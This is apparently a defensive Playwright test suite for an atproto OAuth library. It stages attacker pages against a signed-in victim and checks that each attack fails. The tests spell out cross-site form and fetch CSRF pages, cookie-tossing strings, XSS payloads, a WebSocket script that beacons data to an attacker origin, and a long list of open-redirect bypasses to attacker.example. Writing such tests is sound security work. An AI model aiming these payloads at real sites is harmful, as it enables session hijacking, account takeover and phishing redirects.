"""What pages of an attacker can do to somebody who is signed in, in a real browser over https.

The attacker has a site of their own, and a sibling of the app's host (`evil.birdsong.dev`), which
browsers count as the same site: Lax cookies come along from there.
"""

from __future__ import annotations

import json
from collections.abc import Generator
from urllib.parse import parse_qs, quote, urlencode, urlsplit

import pytest
from playwright.sync_api import Page, Playwright, Request, expect

from atproto_oauth_asgi.errors import CrossSiteRefused, InvalidCallback
from tests.browser.attack_world import APP, EVIL, SIBLING, Stage, Victim, stage
from tests.test_next_url import STRANGERS

ORIGINS = pytest.mark.parametrize("origin", [EVIL, SIBLING], ids=["elsewhere", "sibling"])


@pytest.fixture(scope="module")
def attack(playwright: Playwright, tmp_path_factory: pytest.TempPathFactory) -> Generator[Stage]:
    with stage(playwright, tmp_path_factory.mktemp("tls")) as it:
        yield it


@pytest.fixture
def victim(attack: Stage) -> Generator[Victim]:
    with attack.person() as person:
        yield person


def settled(page: Page) -> None:
    page.wait_for_load_state("networkidle")


# --- Somebody else's login ------------------------------------------------------------------------


@pytest.mark.spec("G4")
@pytest.mark.parametrize("signed_in", [False, True])
def test_login_csrf_the_attackers_callback_signs_nobody_in(
    attack: Stage, victim: Victim, signed_in: bool
) -> None:
    before = victim.login("alice.test") if signed_in else None
    with attack.person() as attacker:
        backs = [attacker.approved("bob.test") for _ in range(3)]
    if not signed_in:
        # A login of their own is under way, so there is a login cookie to be confused by.
        victim.begin("alice.test")
    page = victim.visit(
        f'<img src="{backs[0]}"><iframe src="{backs[0]}"></iframe><a href="{backs[1]}">win</a>'
    )
    settled(page)
    page.get_by_role("link").click()
    expect(page.get_by_role("alert")).to_have_text(InvalidCallback.sentence)
    attack.attacker.redirect = backs[2]
    page = victim.visit("", path="/redirect")
    expect(page.get_by_role("alert")).to_have_text(InvalidCallback.sentence)

    assert victim.who() == before


@pytest.mark.spec("Q3")
@ORIGINS
def test_login_csrf_a_foreign_page_begins_no_login(
    attack: Stage, victim: Victim, origin: str
) -> None:
    attack.network.log.clear()
    form = (
        f'<form id="f" method="post" action="{APP}/oauth/login">'
        '<input name="identifier" value="bob.test"></form><script>f.submit()</script>'
    )
    page = victim.visit(form, origin)
    expect(page.get_by_role("alert")).to_have_text(CrossSiteRefused.sentence)
    # Nor does a link: it only asks.
    page.goto(f"{APP}/oauth/login?identifier=bob.test")
    expect(page.get_by_role("button", name="Continue")).to_be_visible()

    assert attack.network.log.of("par") == []


@pytest.mark.spec("G3", "G7")
def test_the_back_button_after_consent_and_a_double_submit_make_one_session(
    attack: Stage, victim: Victim
) -> None:
    before = len(attack.network.sessions("alice.test"))
    back = victim.approved()
    attack.network.log.clear()
    victim.page.goto(back)
    victim.page.go_back()
    # What was done is not done again, and does not look as if it had failed.
    victim.page.goto(back)
    expect(victim.page.get_by_role("heading")).to_have_text("Home")
    victim.page.evaluate("url => Promise.all([fetch(url), fetch(url)])", back)
    victim.page.goto(back)
    expect(victim.page.get_by_role("heading")).to_have_text("Home")

    assert victim.who() == victim.did()
    assert len(attack.network.token_requests("authorization_code")) == 1
    assert len(attack.network.sessions("alice.test")) == before + 1


@pytest.mark.spec("G1")
@pytest.mark.parametrize("way", ["prefetch link", "speculation rules", "ours"])
def test_fetching_a_callback_before_it_is_needed_uses_nothing_up(victim: Victim, way: str) -> None:
    back = victim.approved()
    urls = json.dumps({"urls": [back], "eagerness": "immediate"})
    if way == "ours":
        victim.page.goto(APP)
        victim.page.evaluate(
            "rules => { const s = document.createElement('script'); s.type = 'speculationrules';"
            " s.textContent = rules; document.head.append(s) }",
            f'{{"prerender": [{urls}], "prefetch": [{urls}]}}',
        )
    elif way == "prefetch link":
        victim.visit(f'<link rel="prefetch" href="{back}" as="document">')
    else:
        victim.visit(f'<script type="speculationrules">{{"prefetch": [{urls}]}}</script>')
    settled(victim.page)
    assert victim.who() is None

    victim.page.goto(back)
    assert victim.who() == victim.did()


# --- Cookies --------------------------------------------------------------------------------------


@pytest.mark.spec("Q0", "Q1", "G9")
@pytest.mark.parametrize("signed_in", [False, True])
def test_cookie_tossing_from_a_sibling_plants_no_session(
    attack: Stage, victim: Victim, signed_in: bool
) -> None:
    before = victim.login("alice.test") if signed_in else None
    with attack.person() as attacker:
        attacker.login("bob.test")
        # Whatever it is called: a name that can be planted is what this test has to see.
        (value,) = (
            one.get("value")
            for one in attacker.context.cookies(APP)
            if str(one.get("name")).endswith("atproto-oauth")
        )
    names = [
        "__Host-atproto-oauth",
        "__host-atproto-oauth",
        "__HOST-ATPROTO-OAUTH",
        "__Secure-atproto-oauth",
        "atproto-oauth",
        "=__Host-atproto-oauth",
        " __Host-atproto-oauth",
        "__Host-atproto-oauth-login",
        "did",
    ]
    attributes = ["; Domain=birdsong.dev; Secure; Path=/", "; Domain=.birdsong.dev; Path=/who"]
    planted = [f"{name}={value}{attribute}" for name in names for attribute in attributes]
    write = "all => { for (const one of all) document.cookie = one }"
    # A header cannot begin with a blank; a script's can.
    attack.attacker.cookies = [one for one in planted if not one.startswith(" ")]
    victim.visit("x", SIBLING)
    victim.page.evaluate(write, planted)
    # Some did arrive at the app, under names that are not ours.
    assert any(one.get("domain") == ".birdsong.dev" for one in victim.context.cookies(APP))
    assert victim.who() == before
    # A heap of cookies may push ours out of the browser; it makes nobody somebody else.
    heap = [f"n{number}={'x' * 100}; Domain=birdsong.dev; Path=/" for number in range(50)]
    victim.page.evaluate(write, heap)
    assert victim.who() in {before, None}


@pytest.mark.spec("Q0")
def test_a_forged_did_cookie_is_nobody(attack: Stage, victim: Victim) -> None:
    with attack.person() as other:
        did = other.login("alice.test")
        for name in ("did", "atproto-oauth", "session", "handle"):
            victim.context.add_cookies([{"name": name, "value": did, "url": APP}])
        assert victim.who() is None
        # The tutorial's logout revokes whoever the cookie names.
        victim.page.goto(APP)
        status = victim.page.evaluate(
            "fetch('/oauth/logout', {method: 'POST'}).then(r => r.status)"
        )
        assert status == 204
        assert other.who() == did


# --- Acting with somebody's session ---------------------------------------------------------------


def everything_that_posts(url: str) -> str:
    """Return a page that posts to an address in every way but a navigation."""
    submit = f"<form id=f method=post action={url}></form><script>f.submit()</script>"
    plain = "body: '{}', headers: {'content-type': 'text/plain'}"
    cross = "method: 'POST', mode: 'no-cors', credentials: 'include'"
    return (
        f'<img src="{url}">'
        f'<iframe sandbox="allow-scripts allow-forms" srcdoc="{submit}"></iframe>'
        f'<iframe name="inner"></iframe><form id="g" method="post" action="{url}" target="inner">'
        "</form><script>g.submit();"
        f"fetch('{url}', {{{cross}}}); fetch('{url}', {{{cross}, {plain}}});"
        f"navigator.sendBeacon('{url}', new Blob(['{{}}']))</script>"
    )


@pytest.mark.spec("K6", "Q3")
@ORIGINS
def test_a_foreign_page_logs_nobody_out(victim: Victim, origin: str) -> None:
    did = victim.login()
    url = f"{APP}/oauth/logout"
    posted: list[int] = []
    victim.page.on("response", lambda answer: posted.append(answer.status))
    page = victim.visit(everything_that_posts(url), origin)
    settled(page)
    assert victim.who() == did
    # The ways were ways: each of them arrived, and was refused.
    assert posted.count(403) >= 4
    assert posted.count(204) == posted.count(303) == 0

    submit = f"<form id=f method=post action={url}></form><script>f.submit()</script>"
    victim.visit(submit, origin)
    expect(page.get_by_role("alert")).to_have_text(CrossSiteRefused.sentence)
    assert victim.who() == did


@pytest.mark.spec("Q3")
@ORIGINS
def test_an_unsafe_request_of_a_foreign_page_is_nobodys(
    attack: Stage, victim: Victim, origin: str
) -> None:
    victim.login()
    url = f"{APP}/post"
    attack.posted.clear()
    settled(victim.visit(everything_that_posts(url), origin))
    submit = f"<form id=f method=post action={url}></form><script>f.submit()</script>"
    page = victim.visit(submit, origin)
    expect(page.locator("body")).to_have_text('{"posted_as":null}')

    assert len(attack.posted) >= 5
    assert set(attack.posted) == {None}
    # Our own page's is somebody's.
    page.goto(APP)
    page.evaluate("fetch('/post', {method: 'POST'}).then(r => r.text())")
    assert attack.posted[-1] == victim.did()


@pytest.mark.spec("Q3")
@ORIGINS
@pytest.mark.parametrize("sandboxed", [False, True])
def test_a_websocket_of_a_foreign_page_is_nobodys(
    victim: Victim, origin: str, sandboxed: bool
) -> None:
    victim.login()
    script = (
        "<script>new WebSocket('wss://app.birdsong.dev/ws').onmessage"
        f" = e => {{ new Image().src = '{origin}/heard?' + e.data }}</script>"
    )
    html = f'<iframe sandbox="allow-scripts" srcdoc="{quote_attribute(script)}"></iframe>'
    with victim.page.expect_request("**/heard?*") as caught:
        victim.visit(html if sandboxed else script, origin)
    assert caught.value.url == f"{origin}/heard?nobody"
    # Our own page's is somebody's.
    victim.page.goto(APP)
    heard = victim.page.evaluate(
        "new Promise(r => new WebSocket('wss://app.birdsong.dev/ws').onmessage = e => r(e.data))"
    )
    assert heard == victim.did()


def quote_attribute(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;")


@ORIGINS
def test_a_foreign_page_cannot_read_who_is_signed_in(victim: Victim, origin: str) -> None:
    victim.login()
    victim.visit("<title>x</title>", origin)
    for path in ("/oauth/session", "/who", "/private"):
        read = victim.page.evaluate(
            "u => fetch(u, {credentials: 'include'}).then(r => r.text(), () => 'refused')",
            APP + path,
        )
        assert read == "refused"
        loaded = victim.page.evaluate(
            "u => new Promise(r => { const s = document.createElement('script'); s.src = u;"
            " s.onload = () => r('ran'); s.onerror = () => r('refused');"
            " document.head.append(s); setTimeout(() => r('silent'), 3000) })",
            APP + path,
        )
        assert loaded in {"refused", "ran"}
        # What ran had nothing in it: the browser blanks JSON that another site loads as a script.
        assert victim.page.evaluate("Object.keys(window).includes('did')") is False


# --- What our pages show --------------------------------------------------------------------------


PAGES = [
    "/oauth/login",
    "/oauth/login?identifier=alice.test",
    "/oauth/login?error=cancelled",
    "/oauth/callback?state=x",
    "/oauth/callback",
]


@ORIGINS
def test_clickjacking_our_pages_are_in_no_frame(victim: Victim, origin: str) -> None:
    frames = "".join(f'<iframe src="{APP}{path}"></iframe>' for path in PAGES)
    page = victim.visit(f"<h1>win</h1>{frames}", origin)
    settled(page)
    inner = [one for one in page.frames if one is not page.main_frame]
    assert len(inner) == len(PAGES)
    assert [frame.url for frame in inner if not frame.url.startswith("chrome-error:")] == []
    for path in PAGES:
        answer = page.goto(APP + path)
        assert answer is not None
        assert answer.headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]


XSS = {
    "html": (
        "'\"></title></textarea><script>pwned=1</script>"
        "<img src=x onerror=pwned=1><svg onload=pwned=1>"
    ),
    "attribute": '" autofocus onfocus=pwned=1 x=\'" onfocus=pwned=1 y="',
    "address": "javascript:pwned=1//{{constructor.constructor('pwned=1')()}}",
    "encoded": (
        "&lt;script&gt;pwned=1&lt;/script&gt;＜script＞pwned=1＜/script＞"
        "\u2028<script>pwned=1</script>"
    ),
}


@pytest.mark.spec("G6")
@pytest.mark.parametrize("payload", XSS.values(), ids=XSS)
def test_xss_nothing_that_is_shown_runs(victim: Victim, payload: str) -> None:
    complaints: list[str] = []
    victim.page.on("console", lambda message: complaints.append(message.text))
    names = ("identifier", "next", "scope", "prompt", "error", "add", "moved")
    urls = [f"/oauth/login?{urlencode({name: payload})}" for name in names]
    urls += [f"/oauth/login?{urlencode({'identifier': payload, 'error': 'cancelled'})}"]
    for given in (
        {"error": "x", "error_description": payload, "error_uri": payload},
        {"error": payload},
        {"iss": payload, "code": payload},
    ):
        # As a hostile server would answer, to a login of this browser: only one answer of each
        # is read.
        state = parse_qs(urlsplit(victim.approved()).query)["state"][0]
        answer = {"state": state, "iss": "https://pds.example", **given}
        urls.append(f"/oauth/callback?{urlencode(answer)}")
    for url in urls:
        victim.page.goto(APP + url)
        assert victim.page.evaluate("typeof pwned") == "undefined"
        assert victim.page.locator("script, img, svg, [onfocus], [onerror]").count() == 0
    # Typed into the form, and shown again beside the error.
    victim.page.goto(f"{APP}/oauth/login")
    victim.page.get_by_label("Handle").fill(payload)
    victim.page.get_by_role("button", name="Sign in").click()
    expect(victim.page.get_by_role("alert")).to_be_visible()
    assert victim.page.evaluate("typeof pwned") == "undefined"
    # Escaped, and not only stopped by the policy.
    assert [one for one in complaints if "Content Security Policy" in one] == []


# --- Where our answers lead -----------------------------------------------------------------------


REDIRECTS = [
    *(target for target in STRANGERS if target and len(target) < 2500),
    "/%2f%2fattacker.example",
    "/%5cattacker.example",
    "/%09/attacker.example",
    "/.//attacker.example",
    "/..//attacker.example",
    "/a/..//attacker.example",
    "/./\\attacker.example",
    "/;@attacker.example",
    "/?next=//attacker.example",
    "/#//attacker.example",
    f"{APP}//attacker.example",
    f"{APP}/\\attacker.example",
    f"{APP}.attacker.example/",
    f"{APP}:@attacker.example/",
    f"{APP}%2eattacker.example/",
    f"{APP}%00.attacker.example/",
    f"{APP}@attacker.example/",
    "https://attacker。example/",
    "//attacker%E3%80%82example",
    "https:\\\\attacker.example",
    "ht\ttps://attacker.example",
    "java\nscript:location='//attacker.example'",
    "\x01javascript:location='//attacker.example'",
    "blob:https://attacker.example/x",
    "view-source:https://attacker.example/",
    "intent://attacker.example/#Intent;end",
]


@pytest.mark.timeout(240)
@pytest.mark.spec("G8")
def test_no_next_leads_to_a_stranger(victim: Victim) -> None:
    left: list[str] = []
    victim.context.route("https://attacker.example/**", lambda route: route.abort())
    victim.page.on("request", lambda request: left.append(request.url))
    victim.page.goto(APP)
    for target in REDIRECTS:
        with victim.page.expect_navigation():
            victim.page.evaluate(
                "t => { const f = document.createElement('form'); f.method = 'post';"
                " f.action = '/oauth/logout'; const i = document.createElement('input');"
                " i.name = 'next'; i.value = t; f.append(i); document.body.append(f);"
                " f.submit() }",
                target,
            )
        parts = urlsplit(victim.page.url)
        assert f"{parts.scheme}://{parts.netloc}" == APP, target
        if "logout" in victim.page.url or not victim.page.locator("body").count():
            victim.page.goto(APP)
    assert [url for url in left if not url.startswith(f"{APP}/")] == []


def test_the_way_back_from_a_real_login_stays_here(victim: Victim) -> None:
    for target in ("/%5cattacker.example", "//attacker.example", "/\\attacker.example"):
        url = victim.begin(next=quote(target, safe=""))
        victim.page.goto(victim.stage.network.approve(url, "alice.test"))
        assert urlsplit(victim.page.url).netloc == "app.birdsong.dev"


# --- What is left behind --------------------------------------------------------------------------


@pytest.mark.spec("Q8")
def test_going_back_after_logout_shows_no_private_page(victim: Victim) -> None:
    did = victim.login()
    victim.page.goto(f"{APP}/private")
    expect(victim.page.get_by_role("heading")).to_have_text(f"Private page of {did}")
    victim.page.get_by_role("button", name="Sign out").click()
    victim.page.wait_for_url(APP + "/")

    victim.page.go_back()
    victim.page.wait_for_load_state()

    assert did not in victim.page.content()
    assert victim.who() is None


def test_two_tabs_log_in_as_two_accounts_and_both_pages_agree(victim: Victim) -> None:
    other = victim.context.new_page()
    first = victim.approved("alice.test")
    second = victim.approved("bob.test", page=other)
    victim.page.goto(first)
    assert victim.who() == victim.did("alice.test")
    other.goto(second)

    # The one that came last is who this browser is, in both tabs.
    assert victim.who() == victim.did("bob.test")
    victim.page.goto(f"{APP}/private")
    expect(victim.page.get_by_role("heading")).to_contain_text(victim.did("bob.test"))


@pytest.mark.spec("G8")
def test_the_callbacks_address_goes_to_nobody(victim: Victim) -> None:
    requests: list[Request] = []

    def note(request: Request) -> None:
        requests.append(request)

    def told(code: str) -> list[str]:
        referrers = {one.url: one.all_headers().get("referer", "") for one in requests}
        assert f"{APP}/" in referrers
        requests.clear()
        return [url for url, referrer in referrers.items() if code in referrer]

    back = victim.approved()
    code = parse_qs(urlsplit(back).query)["code"][0]
    victim.page.on("request", note)
    victim.page.goto(back)
    assert told(code) == []
    assert code not in victim.page.url

    # Where it ends in a page of ours, that page's links do not tell either.
    failed = f"{APP}/oauth/callback?{urlencode({'state': 'x', 'code': code})}"
    victim.page.goto(failed)
    victim.page.get_by_role("link", name="Back to").click()
    victim.page.wait_for_url(f"{APP}/")
    assert told(code) == []
